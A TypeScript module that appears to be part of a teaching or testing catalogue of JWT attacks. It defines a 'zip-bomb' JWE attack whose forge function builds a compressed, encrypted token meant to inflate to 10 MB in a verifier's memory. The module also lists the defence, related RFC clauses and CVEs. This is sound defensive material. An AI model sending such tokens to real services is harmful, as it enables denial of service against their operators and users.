import { rfc } from '../../jwt/clause.ts';
import { deflated, encrypt } from '../../service/tokens/encrypt.ts';
import type { Attack } from '../attack.ts';
import { nextBcp } from '../next-bcp.ts';

/** A hundred times as many spaces are ten million: JSON allows them, and DEFLATE needs a thousandth of the room. */
const SPACES = new Uint8Array(100_000).fill(0x20);

export const zipBomb: Attack = {
  id: 'zip-bomb',
  name: 'A token that inflates',
  group: 'resources',
  setting: 'jwe-zip',
  precondition:
    'Compressed tokens were agreed on, and the verifier inflates them to whatever size they have. The service’s public key is known.',
  needs: ['public-key'],
  goal: 'A token of 13 kB becomes 10 MB in the service’s memory, for every request.',
  forge: async ({ knows }) => {
    const header = { alg: 'RSA-OAEP-256', enc: 'A256GCM', zip: 'DEF' };
    const small = await deflated(SPACES, 100);
    return {
      moves: [
        {
          say: 'Compress ten million spaces, and encrypt what is left to the service’s public key.',
          token: await encrypt(header, small, knows.encryptTo ?? {}),
        },
      ],
    };
  },
  explanation: [
    'An encrypted token may say zip: DEF: its plaintext was compressed before it was encrypted. DEFLATE makes a thousandth of a text that repeats itself, and the receiver has to make the text again.',
    'A limit on the size of the request does not help; it is the small one that is counted. The bytes are there before any claim could be read, and with a public key anybody can send them.',
    'On this page the verifier has an allowance of a million bytes, counted piece by piece while it inflates.',
  ],
  defence:
    'Do not take compressed tokens. If you must, inflate as a stream and stop at a ceiling: 250 kB is plenty for claims, and is what the draft that is to replace RFC 8725 names.',
  bcp: [],
  clauses: [rfc(7516, '4.1.3'), nextBcp('3.15')],
  cves: [
    {
      id: 'CVE-2024-28176',
      what: 'jose for JavaScript before 4.15.5: decompressing an encrypted token took time and memory without a bound',
    },
    {
      id: 'CVE-2024-28180',
      what: 'go-jose before 4.0.1: the same; since then it stops at 250 kB or ten times the compressed size',
    },
  ],
  sound: {
    pinned: {
      outcome: 'refuse',
      at: 'form',
      because: 'It takes signed tokens only; five parts are none.',
    },
    strict: {
      outcome: 'refuse',
      at: 'form',
      because: 'It takes signed tokens only; five parts are none.',
    },
    nested: {
      outcome: 'refuse',
      at: 'inflated',
      because: 'It stops inflating at 250,000 bytes.',
    },
  },
};
